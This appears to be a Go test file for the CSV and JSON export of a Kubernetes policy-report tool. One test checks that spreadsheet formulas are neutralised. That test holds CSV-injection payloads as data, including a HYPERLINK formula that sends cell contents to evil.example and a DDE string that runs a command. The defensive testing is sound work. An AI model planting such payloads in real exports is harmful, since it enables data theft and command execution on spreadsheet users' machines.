package query

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"errors"
	"maps"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/go-logr/logr"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	v1alpha1 "github.com/policyherald/policy-herald/api/v1alpha1"
	wgpolicyv1alpha2 "github.com/policyherald/policy-herald/api/wgpolicyk8s/v1alpha2"
	"github.com/policyherald/policy-herald/internal/report"
	"github.com/policyherald/policy-herald/internal/store"
)

// exportCases are selections to export, with the visibility they are exported as.
var exportCases = []struct {
	name string
	v    Visibility
	sel  Selection
	keep func(it item) bool // the selection, said plainly
}{
	{"everything", Everything, Selection{}, func(item) bool { return true }},
	{"failing, grouped and sorted, as a team", teams{"team-a": true, "team-b": true, "default": true},
		Selection{Query: Query{Statuses: []v1alpha1.ResultStatus{"fail", None}}, Sort: Sort{By: SortTime, Desc: true}, GroupBy: GroupNamespace},
		func(it item) bool { return it.res.Status == "fail" || it.res.Status == "" }},
	{"nothing", Everything, Selection{Query: Query{Text: "no message says this"}}, func(item) bool { return false }},
}

// TestWriteCSV: the export is the whole selection in the table's order, a header row, then a
// row per result with the columns CSVColumns names.
func TestWriteCSV(t *testing.T) {
	e, reps := fixture(t)
	for _, c := range exportCases {
		t.Run(c.name, func(t *testing.T) {
			var buf bytes.Buffer
			if err := e.WriteCSV(&buf, c.v, c.sel); err != nil {
				t.Fatal(err)
			}
			records, err := csv.NewReader(&buf).ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			if !slices.Equal(records[0], []string{"id", "namespace", "kind", "name", "apiVersion", "policy", "rule", "status",
				"severity", "category", "source", "message", "time", "reportKind", "reportNamespace", "reportName", "properties"}) {
				t.Errorf("header = %v", records[0])
			}
			var want []item
			for _, it := range items(reps, c.v) {
				if c.keep(it) {
					want = append(want, it)
				}
			}
			if len(records)-1 != len(want) {
				t.Fatalf("%d records, want %d", len(records)-1, len(want))
			}
			rows := allRows(t, e, c.v, c.sel) // the table's order, checked by TestSorts and TestGroups
			for i, rec := range records[1:] {
				checkRecord(t, rec, rows[i])
			}
		})
	}
}

// checkRecord checks a CSV record against the row of the same result.
func checkRecord(t *testing.T, rec []string, r Row) {
	t.Helper()
	// Time and properties (columns 12 and 16) are parsed below.
	want := []string{r.ID, r.Namespace, r.Kind, r.Name, r.APIVersion, r.Policy, r.Rule, r.Status, r.Severity,
		r.Category, r.Source, r.Message, rec[12], r.ReportKind, r.ReportNamespace, r.ReportName, rec[16]}
	if !slices.Equal(rec, want) {
		t.Errorf("record %v, want %v", rec, want)
	}
	if r.Time.IsZero() != (rec[12] == "") {
		t.Errorf("record %s: time %q for %v", r.ID, rec[12], r.Time)
	} else if rec[12] != "" {
		if tm, err := time.Parse(time.RFC3339Nano, rec[12]); err != nil || !tm.Equal(r.Time) || !strings.HasSuffix(rec[12], "Z") {
			t.Errorf("record %s: time %q, want %v in UTC", r.ID, rec[12], r.Time)
		}
	}
	var props map[string]string
	if rec[16] != "" {
		if err := json.Unmarshal([]byte(rec[16]), &props); err != nil {
			t.Errorf("record %s: properties %q: %v", r.ID, rec[16], err)
		}
	}
	if !maps.Equal(props, r.Properties) {
		t.Errorf("record %s: properties %v, want %v", r.ID, props, r.Properties)
	}
}

// TestWriteJSON: the export is one array of the rows of every page.
func TestWriteJSON(t *testing.T) {
	e, _ := fixture(t)
	for _, c := range exportCases {
		t.Run(c.name, func(t *testing.T) {
			var buf bytes.Buffer
			if err := e.WriteJSON(&buf, c.v, c.sel); err != nil {
				t.Fatal(err)
			}
			var got []Row
			if err := json.Unmarshal(buf.Bytes(), &got); err != nil {
				t.Fatalf("%v:\n%s", err, buf.String())
			}
			want := append([]Row{}, allRows(t, e, c.v, c.sel)...)
			a, _ := json.Marshal(got)
			b, _ := json.Marshal(want)
			if got == nil || !bytes.Equal(a, b) {
				t.Errorf("export:\n%s\nwant\n%s", a, b)
			}
		})
	}
}

// failingWriter fails after n bytes, as a client that went away.
type failingWriter struct{ n int }

func (w *failingWriter) Write(p []byte) (int, error) {
	if len(p) > w.n {
		return w.n, errors.New("connection reset")
	}
	w.n -= len(p)
	return len(p), nil
}

// TestExportWriteErrors: an export that cannot be written says so.
func TestExportWriteErrors(t *testing.T) {
	e, _ := fixture(t)
	if err := e.WriteCSV(&failingWriter{n: 100}, Everything, Selection{}); err == nil {
		t.Error("CSV: no error")
	}
	if err := e.WriteJSON(&failingWriter{n: 100}, Everything, Selection{}); err == nil {
		t.Error("JSON: no error")
	}
	if err := e.WriteCSV(&bytes.Buffer{}, Everything, Selection{Sort: Sort{By: "age"}}); err == nil {
		t.Error("a bad selection: no error")
	}
}

// TestWriteCSVNeutralisesFormulas: a spreadsheet runs a cell that starts with =, +, -, @, a tab
// or a carriage return as a formula (CSV injection). Every text field a report's author
// controls is written with a leading single quote then (OWASP's advice), so it shows as text;
// the JSON export is data, not a spreadsheet, and keeps the values as they are.
func TestWriteCSVNeutralisesFormulas(t *testing.T) {
	formulas := []string{`=HYPERLINK("http://evil.example/?"&A1,"open")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"}
	at := func(i int) string { return formulas[i%len(formulas)] }
	rep := &wgpolicyv1alpha2.PolicyReport{ObjectMeta: metav1.ObjectMeta{Namespace: at(0), Name: at(1)},
		Results: []wgpolicyv1alpha2.PolicyReportResult{{
			Source: at(2), Policy: at(3), Rule: at(4), Category: at(5), Result: "fail", Severity: "high", Message: at(0),
			Resources:  []corev1.ObjectReference{{APIVersion: at(1), Kind: at(2), Namespace: at(3), Name: at(4)}},
			Properties: map[string]string{"=x": at(5)},
		}}}
	s := store.New(nil, nil, logr.Discard())
	s.Put(report.FromPolicyReport(rep))
	e := New(s)
	var buf bytes.Buffer
	if err := e.WriteCSV(&buf, Everything, Selection{}); err != nil {
		t.Fatal(err)
	}
	records, err := csv.NewReader(&buf).ReadAll()
	if err != nil || len(records) != 2 {
		t.Fatalf("%d records, %v:\n%s", len(records), err, buf.String())
	}
	rows := allRows(t, e, Everything, Selection{})
	r := rows[0]
	raw := []string{r.ID, r.Namespace, r.Kind, r.Name, r.APIVersion, r.Policy, r.Rule, r.Status, r.Severity,
		r.Category, r.Source, r.Message, "", r.ReportKind, r.ReportNamespace, r.ReportName, records[1][16]}
	neutralised := 0
	for i, cell := range records[1] {
		want := raw[i]
		if want != "" && strings.ContainsRune("=+-@\t\r", rune(want[0])) {
			want, neutralised = "'"+want, neutralised+1
		}
		if cell != want {
			t.Errorf("column %s = %q, want %q", CSVColumns[i], cell, want)
		}
	}
	if neutralised != 11 {
		t.Errorf("%d cells started with a formula character, want 11 (the test's report changed?)", neutralised)
	}
	var props map[string]string
	if err := json.Unmarshal([]byte(records[1][16]), &props); err != nil || props["=x"] != at(5) {
		t.Errorf("properties %q (%v): the JSON object is written as it is", records[1][16], err)
	}
	if rows[0].Message != at(0) {
		t.Errorf("the row's message %q changed", rows[0].Message)
	}
}
